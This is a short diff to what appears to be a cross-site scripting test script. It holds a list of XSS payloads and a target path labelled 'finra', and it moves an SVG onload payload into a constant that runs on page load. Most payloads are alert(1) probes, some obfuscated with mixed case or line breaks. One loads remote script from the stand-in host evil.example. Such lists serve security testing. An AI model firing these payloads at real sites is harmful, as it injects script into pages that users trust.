@@ -2,7 +2,11 @@
 
 TARGETS = {"finra": "/en/finra/"}
 
+# This one runs in a bare page as soon as it is loaded.
+RUNS_ON_LOAD = "<svg onload=alert(1)>"
+
 PAYLOADS = [
+    RUNS_ON_LOAD,
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT >",
     "<script>alert(1)",
@@ -11,7 +15,6 @@ PAYLOADS = [
     "<img src=x onerror=alert(1)>",
     "<img src=x\nonerror=alert(1)//",
     '<img """><script>alert(1)</script>">',
-    "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
     '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
